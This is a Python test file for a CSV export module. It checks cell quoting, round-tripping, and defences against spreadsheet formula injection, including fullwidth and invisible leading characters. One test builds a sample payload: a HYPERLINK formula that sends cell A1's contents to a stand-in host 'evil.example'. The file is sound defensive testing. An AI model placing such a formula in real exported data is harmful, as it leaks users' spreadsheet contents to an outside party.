import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.interchange import sheets
from ledger.interchange.columns import Row
from ledger.interchange.sheets import Sheet, guarded, read_sheet, unguarded

COLUMNS = ("name", "said", "many", "sure")
STEERING = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def written(*rows: Row) -> str:
    file = io.StringIO(newline="")
    sheet = Sheet(file, COLUMNS)
    for row in rows:
        sheet.add(row)
    return file.getvalue()


def row(name: str | None = "crane", said: str | None = None, many: int | None = None, sure: bool | None = None) -> Row:
    return {"name": name, "said": said, "many": many, "sure": sure}


def test_a_line_of_names_then_a_line_for_each_row() -> None:
    assert written(row("crane", "left", 12, True), row("barge", None, None, False)) == (
        "name,said,many,sure\r\ncrane,left,12,true\r\nbarge,,,false\r\n"
    )


@pytest.mark.parametrize("text", ["a,b", 'the "quay"', "one\rtwo", "one\ntwo", "one\r\ntwo", "Łódź, 北韓"])
def test_what_would_end_a_cell_is_quoted(text: str) -> None:
    shown = written(row(text))
    quoted = '"' + text.replace('"', '""') + '"'
    assert shown == f"name,said,many,sure\r\n{quoted},,,\r\n"


@pytest.mark.parametrize("first", STEERING)
def test_no_cell_begins_as_a_formula_does(first: str) -> None:
    text = f'{first}HYPERLINK("http://evil.example/?"&A1,"read more")'
    cell = next(csv.DictReader(io.StringIO(written(row(text)), newline="")))["name"]
    assert cell == f"'{text}"


HIDDEN = [" ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u200e", "\x1c", "\x01", "\u202e", "\u2067", "\u00ad", "\ufe0f"]


@pytest.mark.parametrize("hidden", [*HIDDEN, "\U000e0020", "\u3164\u200d"])
def test_nor_once_what_does_not_show_is_cut_from_its_beginning(hidden: str) -> None:
    assert guarded(f"{hidden}=1+1") == f"'{hidden}=1+1"


@pytest.mark.parametrize("text", ["crane", ">1000", "~12", "2023-08-31", "12", "a=1", "(a)", "sha256:00"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text(min_size=1))
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    (found,) = read_sheet(io.StringIO(written(row(text)), newline=""))
    assert found == {"name": text, "said": None, "many": None, "sure": None}


@pytest.mark.parametrize("first", STEERING)
def test_a_guard_that_does_not_know_a_beginning_lets_exactly_it_through(
    monkeypatch: pytest.MonkeyPatch, first: str
) -> None:
    knowing = sheets._STEERING.pattern
    code = (
        f"\\u{ord(first):04x}" if ord(first) > 127 else {"\t": "\\t", "\r": "\\r", "\n": "\\n", "-": "\\-"}.get(first)
    )
    blind = knowing.replace(r"[\s", r"[ ").replace(code or first, "", 1)
    monkeypatch.setattr(sheets, "_STEERING", re.compile(blind))

    assert [one for one in STEERING if guarded(f"{one}1") == f"{one}1"] == [first]
